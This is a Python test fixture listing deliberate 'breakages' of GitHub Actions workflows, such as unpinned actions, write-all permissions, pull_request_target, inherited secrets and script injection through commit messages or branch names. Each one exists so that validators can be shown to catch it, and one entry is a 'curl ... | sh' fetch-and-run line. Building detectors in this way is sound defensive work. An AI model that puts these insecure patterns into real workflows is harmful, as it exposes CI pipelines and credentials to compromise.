"""Breakages of the workflows as they are: one text of one file replaced by another.

Each must be found by a validator or by a contract. A text that is not there exactly once is an error:
then the workflows have moved on, and so must the breakage.
"""

from __future__ import annotations

import re
from dataclasses import dataclass
from pathlib import Path

MAIN, PULL_REQUEST = "workflows/main.yml", "workflows/pull_request.yml"
RECONCILE, ROLLBACK = "workflows/reconcile.yml", "workflows/rollback.yml"
PRODUCTION, INFRA = "workflows/production.yml", "workflows/infra.yml"
RELEASE, DEPLOY, SETUP = "workflows/release.yml", "workflows/deploy.yml", "actions/setup/action.yml"
DEPENDABOT = "dependabot.yml"
LANGUAGE_SERVICE = "language-service"
REF = "ref: main # "  # and why
# infra.yml's job as one of another file's
STACKS = """\
    concurrency:
      group: infrastructure
    runs-on: ubuntu-24.04
    timeout-minutes: 60
    environment: infrastructure
    env:
      AWS_ROLE_ARN: ${{ vars.AWS_INFRA_ROLE }}
    steps:
      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
        with:
          ref: main # whenever it is let in
          persist-credentials: false
      - uses: $/.github/actions/setup
        with:
          pins: verbs
      - run: .venv/bin/python -m pipelines infra --yes
"""


@dataclass(frozen=True)
class Breakage:
    """One breakage, and in which job its text lies where the file has it more than once."""

    says: str
    file: str  # below .github
    old: str
    new: str
    job: str = ""
    only: str = ""  # the tool that alone finds it, where that is a slow one

    def apply(self, project: Path) -> None:
        """Break the .github of `project`; ValueError where the text is not there exactly once."""
        path = project / ".github" / self.file
        text = path.read_text("utf-8")
        begin, end = self.span(text)
        if text[begin:end].count(self.old) != 1:
            times = text[begin:end].count(self.old)
            raise ValueError(f"{self.says}: {self.file} {self.job} has {times} times {self.old!r}")
        path.write_text(text[:begin] + text[begin:end].replace(self.old, self.new) + text[end:], "utf-8")

    def span(self, text: str) -> tuple[int, int]:
        """Return where the job begins and ends; the whole file without one."""
        if not self.job:
            return 0, len(text)
        block = re.search(rf"^  {self.job}:\n(?:(?: {{3}}.*)?\n)*", text, re.MULTILINE)
        if block is None:
            raise ValueError(f"{self.says}: {self.file} has no job {self.job}")
        return block.span()

    def __str__(self) -> str:
        return self.says


SOURCES = (
    Breakage(
        "an input that our action lacks",
        RELEASE,
        "actions/setup",
        "actions/setup\n        with:\n          python: '3.12'",
        "image",
    ),
    Breakage("an action by its tag", PULL_REQUEST, "actions/checkout@", "actions/checkout@v5 # ", "check"),
    Breakage("an action by its branch", SETUP, "actions/setup-python@", "actions/setup-python@main # "),
    Breakage("a commit without its version", PULL_REQUEST, " # v", " # was v", "check"),
    Breakage("a commit cut short", PULL_REQUEST, "@08c6903cd8", "@", "check"),
    Breakage("a local action as ./", PULL_REQUEST, "$/.github", "./.github", "test"),
    Breakage("a local action misspelt", PULL_REQUEST, "actions/setup", "actions/setpu", "test"),
    Breakage("a local action with a version", PULL_REQUEST, "actions/setup", "actions/setup@v1", "test"),
    Breakage("a called workflow misspelt", RELEASE, "workflows/deploy.yml", "workflows/deplyo.yml", "deploy"),
    Breakage("a called workflow as ./", RELEASE, "$/.github/workflows", "./.github/workflows", "deploy"),
    Breakage(
        "a call of what cannot be called", RELEASE, "workflows/deploy.yml", "workflows/main.yml", "deploy"
    ),
    Breakage(
        "an input that the called workflow lacks",
        RELEASE,
        "workflows/deploy.yml",
        "workflows/deploy.yml\n    with:\n      environment: staging",
        "deploy",
    ),
    Breakage(
        "an input that checkout lacks", RELEASE, "fetch-depth:", "fetch-dept:", "outcome", LANGUAGE_SERVICE
    ),
    Breakage(
        "an input that Python's lacks", SETUP, "python-version:", "python-versoin:", only=LANGUAGE_SERVICE
    ),
    Breakage(
        "credentials kept", DEPLOY, "persist-credentials: false", "persist-credentials: true", "staging"
    ),
    Breakage("credentials kept by a slip", RELEASE, "persist-credentials:", "persist-credential:", "image"),
)
RIGHTS = (
    Breakage("all rights at the top", MAIN, "permissions: {}", "permissions: write-all"),
    Breakage("the default's rights at the top", RELEASE, "permissions: {}\n", ""),
    Breakage("a job that lists none", PULL_REQUEST, "    permissions:\n      contents: read\n", "", "check"),
    Breakage("a right that is not there", PULL_REQUEST, "contents: read", "contents: raed", "check"),
    Breakage("a scope that is not there", PULL_REQUEST, "contents: read", "content: read", "check"),
    Breakage("a role without the token", RELEASE, "id-token: write", "id-token: none", "image"),
    Breakage(
        "a token without a role",
        PULL_REQUEST,
        "contents: read",
        "contents: read\n      id-token: write",
        "test",
    ),
    Breakage("a caller without the token", RELEASE, "id-token: write", "id-token: none", "deploy"),
    Breakage("a caller that grants too little", MAIN, "contents: write", "contents: read", "release"),
    Breakage("a training that may write", RELEASE, "contents: read", "contents: write", "pipeline"),
    Breakage(
        "a stranger's code with our rights", PULL_REQUEST, "  pull_request:\n", "  pull_request_target:\n"
    ),
    Breakage(
        "a run after a stranger's run",
        MAIN,
        "on:\n",
        "on:\n  workflow_run:\n    workflows: [pull request]\n    types: [completed]\n",
    ),
    Breakage("every secret handed on", MAIN, "/release.yml", "/release.yml\n    secrets: inherit"),
    Breakage("a key instead of the token", RELEASE, "github.token", "secrets.PERSONAL_TOKEN", "outcome"),
    Breakage(
        "a role for forks",
        PULL_REQUEST,
        "github.event.pull_request.head.repo.full_name",
        "'' != github.actor && github.repository",
        "plan",
    ),
    Breakage(
        "a role for forks by or", PULL_REQUEST, "== github.repository &&", "== github.repository ||", "plan"
    ),
    Breakage(
        "a pull request in the pipeline's role",
        PULL_REQUEST,
        "AWS_PULL_REQUEST_ROLE",
        "AWS_PIPELINE_ROLE",
        "plan",
    ),
    Breakage("a training in deploy's role", RELEASE, "AWS_PIPELINE_ROLE", "AWS_DEPLOY_ROLE", "pipeline"),
    Breakage("staging in production's role", DEPLOY, "AWS_DEPLOY_ROLE", "AWS_PRODUCTION_ROLE", "staging"),
    Breakage("staging in production's file", PRODUCTION, "pipelines promote", "pipelines stage"),
    Breakage("production in the registry's account", PRODUCTION, "vars.AWS_PRODUCTION_ROLE || ", ""),
    Breakage("a rollback in the registry's account", ROLLBACK, "vars.AWS_PRODUCTION_ROLE || ", ""),
    Breakage(
        "production compared in the registry's account",
        RECONCILE,
        "${{ vars.AWS_PRODUCTION_ROLE }}",
        "${{ vars.AWS_DEPLOY_ROLE }}",
        "production",
    ),
    Breakage(
        "production mended in the registry's account",
        RECONCILE,
        "${{ vars.AWS_PRODUCTION_ROLE }}",
        "${{ vars.AWS_DEPLOY_ROLE }}",
        "heal-production",
    ),
    Breakage(
        "the infrastructure in the file that compares",
        RECONCILE,
        "    uses: $/.github/workflows/infra.yml\n",
        STACKS,
        "infra",
    ),
    Breakage(
        "a comparison in the infrastructure's role", RECONCILE, "AWS_DEPLOY_ROLE", "AWS_INFRA_ROLE", "look"
    ),
    Breakage("the infrastructure's file does more", INFRA, "pipelines infra --yes", "pipelines reconcile"),
    Breakage("a change of the stacks that asks nobody", INFRA, "    environment: infrastructure\n", ""),
    Breakage("a variable misspelt", RELEASE, "AWS_PIPELINE_ROLE", "AWS_PIPLINE_ROLE", "image"),
)
SCRIPTS = (
    Breakage(
        "a title in a script",
        RELEASE,
        "pipelines image",
        'pipelines image "${{ github.event.head_commit.message }}"',
        "image",
    ),
    Breakage(
        "a branch's name in a script",
        PULL_REQUEST,
        "make check",
        'make check ARGS="${{ github.head_ref }}"',
        "check",
    ),
    Breakage(
        "an input in a script",
        DEPLOY,
        "pipelines stage",
        "pipelines stage --env ${{ inputs.environment }}",
        "staging",
    ),
    Breakage(
        "a branch's name through make",
        PULL_REQUEST,
        '$BASE"\n        env:\n          BASE: ${{ github.event.pull_request.base.sha',
        '$BASE"\n        env:\n          BASE: ${{ github.head_ref',
        "plan",
    ),
    Breakage("a verb misspelt", RELEASE, "pipelines pipeline", "pipelines pipelnie", "pipeline"),
    Breakage("a target misspelt", PULL_REQUEST, "make test", "make tests", "test"),
    Breakage(
        "a script from the network", PULL_REQUEST, "make test", "curl -s https://example.com/i | sh", "test"
    ),
    Breakage(
        "an error swallowed", PRODUCTION, "pipelines promote", "pipelines promote || true", "production"
    ),
    Breakage(
        "a failure painted green",
        PRODUCTION,
        "- run: .venv",
        "- continue-on-error: true\n        run: .venv",
        "production",
    ),
    Breakage("a word without its quotes", PULL_REQUEST, 'test "$STOPPED"', "test $STOPPED", "ready"),
)
COURSE = (
    Breakage("no time limit", RELEASE, "    timeout-minutes: 60\n", "", "image"),
    Breakage("a time limit in words", RELEASE, "timeout-minutes: 60", "timeout-minutes: sixty", "image"),
    Breakage(
        "a time limit that GitHub cuts", RELEASE, "timeout-minutes: 60", "timeout-minutes: 600", "image"
    ),
    Breakage(
        "all pins for a verb that needs few", DEPLOY, "        with:\n          pins: verbs\n", "", "staging"
    ),
    Breakage(
        "the verbs' pins for tests",
        PULL_REQUEST,
        "actions/setup\n",
        "actions/setup\n        with:\n          pins: verbs\n",
        "test",
    ),
    Breakage("whatever system is latest", RELEASE, "ubuntu-24.04", "ubuntu-latest", "image"),
    Breakage("a system that is not there", RELEASE, "ubuntu-24.04", "ubuntu-24.40", "image"),
    Breakage("a machine of our own", RELEASE, "ubuntu-24.04", "self-hosted", "image"),
    Breakage("a queue that drops", PRODUCTION, "      queue: max\n", "", "production"),
    Breakage(
        "a queue that cancels",
        PRODUCTION,
        "queue: max",
        "queue: max\n      cancel-in-progress: true",
        "production",
    ),
    Breakage("a queue misspelt", PRODUCTION, "queue: max", "queue: mxa", "production"),
    Breakage(
        "production in no group",
        PRODUCTION,
        "    concurrency:\n      group: production\n      queue: max\n",
        "",
        "production",
    ),
    Breakage(
        "two proofs at once on staging",
        DEPLOY,
        "    concurrency:\n      group: staging\n      queue: max\n",
        "",
        "staging",
    ),
    Breakage(
        "a reviewer is awaited with production's queue in hand",
        PRODUCTION,
        "    timeout-minutes: 350\n",
        "    timeout-minutes: 350\n    environment: production\n",
    ),
    Breakage(
        "a reviewer is awaited in a queue that others need",
        DEPLOY,
        "    needs: staging\n",
        "    needs: staging\n    concurrency:\n      group: staging\n      queue: max\n",
        "approve",
    ),
    Breakage("a release that asks nobody", DEPLOY, "needs: approve", "needs: staging", "production"),
    Breakage("a permission that counts as a deployment", DEPLOY, "      deployment: false\n", ""),
    Breakage(
        "a rollback behind the releases",
        ROLLBACK,
        "    environment: production\n",
        "    environment: production\n    concurrency:\n      group: production\n      queue: max\n",
    ),
    Breakage("releases behind the schedule", RECONCILE, "group: reconcile", "group: production", "look"),
    Breakage(
        "what mends production beside a promote", RECONCILE, "group: production", "group: reconcile", "heal"
    ),
    Breakage(
        "what mends production's account beside a promote",
        RECONCILE,
        "    concurrency:\n      group: production\n      queue: max\n",
        "",
        "heal-production",
    ),
    Breakage(
        "a comparison that mends beside a promote",
        RECONCILE,
        "pipelines reconcile\n",
        "pipelines reconcile --heal\n",
        "look",
    ),
    Breakage(
        "a reviewer who is asked each hour",
        INFRA,
        "group: infrastructure\n",
        "group: infrastructure\n      queue: max\n",
    ),
    Breakage("a lost release that holds up the next", RECONCILE, "collect-${{ github.sha }}", "collect"),
    Breakage(
        "a lost release that is collected twice",
        RECONCILE,
        "    concurrency:\n      group: collect-${{ github.sha }}\n      queue: max\n",
        "",
    ),
    Breakage("an hour-old commit against what is live", RECONCILE, f"{REF}not ", "# not ", "look"),
    Breakage("an hour-old commit's stacks", INFRA, f"{REF}whenever", "# whenever", "infra"),
    Breakage("an hour-old commit's rollback", ROLLBACK, f"{REF}not ", "# not ", "rollback"),
    Breakage("a rollback that nobody hears of", ROLLBACK, "pipelines outcome", "pipelines status"),
    Breakage("a rollback that failed unheard", ROLLBACK, "    if: always()\n", "", "outcome"),
    Breakage("a release that failed unheard", RELEASE, "    if: always()\n", "", "outcome"),
    Breakage("a plan that nobody waits for", PULL_REQUEST, "if: ${{ !cancelled() }}", "if: always()", "plan"),
    Breakage("a comment of a run that was cancelled", PULL_REQUEST, "!cancelled() &&", "always() &&"),
    Breakage(
        "a training that a merge cancels",
        MAIN,
        "permissions: {}\n",
        "permissions: {}\nconcurrency:\n  group: main\n  cancel-in-progress: true\n",
    ),
    Breakage(
        "merges that are not released", MAIN, "branches: [main]", "branches: [main]\n    paths: [training/**]"
    ),
    Breakage("a branch that is not there", MAIN, "branches: [main]", "branches: [master]"),
    Breakage("a filter misspelt", MAIN, "branches:", "branchs:"),
    Breakage("an hour that is not there", MAIN, "on:\n", 'on:\n  schedule:\n    - cron: "17 25 * * *"\n'),
    Breakage("a schedule on the hour", MAIN, "on:\n", 'on:\n  schedule:\n    - cron: "0 3 * * *"\n'),
    Breakage(
        "a time zone that is not there",
        MAIN,
        "on:\n",
        'on:\n  schedule:\n    - cron: "17 3 * * *"\n      timezone: Europe/Lodnon\n',
    ),
    Breakage("a job that is not there", RELEASE, "needs: image", "needs: imgae", "pipeline"),
    Breakage(
        "jobs that wait for each other", RELEASE, "name: Images", "name: Images\n    needs: pipeline", "image"
    ),
    Breakage(
        "a check that merges do not need", PULL_REQUEST, "needs: [check, test, ", "needs: [check, ", "ready"
    ),
    Breakage("a check that is skipped", PULL_REQUEST, "    if: always()\n", "", "ready"),
    Breakage(
        "a function misspelt",
        PULL_REQUEST,
        "contains(needs.*.result, 'failure')",
        "contians(needs.*.result, 'failure')",
        "ready",
    ),
    Breakage("a context misspelt", RELEASE, "toJSON(needs)", "toJSON(need)", "outcome"),
    Breakage(
        "a job's result that is not needed", RELEASE, "toJSON(needs)", "needs.outcome.result", "outcome"
    ),
    Breakage("a key misspelt", PULL_REQUEST, "runs-on:", "run-on:", "check"),
    Breakage("an action's kind misspelt", SETUP, "using: composite", "using: compsite"),
    Breakage("an action's step without a shell", SETUP, "      shell: bash\n", ""),
    Breakage(
        "an action's input that is not there",
        SETUP,
        "https://download.pytorch.org/whl/cpu",
        "${{ inputs.index }}",
    ),
    Breakage("an ecosystem misspelt", DEPENDABOT, "package-ecosystem: docker", "package-ecosystem: dokcer"),
    Breakage(
        "updates on the day they appear",
        DEPENDABOT,
        "    cooldown:\n      default-days: 7\n    groups:",
        "    groups:",
    ),
)
BREAKAGES = (*SOURCES, *RIGHTS, *SCRIPTS, *COURSE)
